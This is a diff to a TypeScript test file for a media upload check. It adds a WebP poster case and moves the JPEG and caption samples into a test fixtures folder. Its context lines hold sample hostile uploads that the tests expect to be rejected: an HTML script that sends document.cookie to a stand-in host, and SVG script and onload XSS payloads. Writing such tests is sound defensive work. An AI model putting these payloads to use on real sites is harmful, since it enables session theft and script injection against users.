@@ -13,10 +13,13 @@ const mock = serverForThisFile()
 const server = () => mock.current()
 
 const media = (path: string) => readFileSync(join(REPO_ROOT, 'public/media', path))
+/** The shipped media is MP4, WebM and WebP; JPEG and WebVTT samples live with the tests. */
+const fixture = (name: string) => readFileSync(join(REPO_ROOT, 'tests/fixtures/media', name))
 const MP4 = media('videos/plank.mp4')
 const WEBM = media('videos/plank.webm')
-const JPEG = media('posters/plank.jpg')
-const VTT = media('captions/plank.vtt')
+const WEBP = media('posters/plank.webp')
+const JPEG = fixture('plank.jpg')
+const VTT = fixture('plank.vtt')
 
 const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>')
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>')
@@ -51,6 +54,7 @@ describe('item 8: what may be uploaded', () => {
     ['an MP4 video', { name: 'plank.mp4', type: 'video/mp4', bytes: MP4 }, 'video/mp4'],
     ['a WebM video', { name: 'plank.webm', type: 'video/webm', bytes: WEBM }, 'video/webm'],
     ['a JPEG poster', { name: 'plank.jpg', type: 'image/jpeg', bytes: JPEG }, 'image/jpeg'],
+    ['a WebP poster', { name: 'plank.webp', type: 'image/webp', bytes: WEBP }, 'image/webp'],
     ['WebVTT captions', { name: 'plank.vtt', type: 'text/vtt', bytes: VTT }, 'text/vtt'],
   ]
 
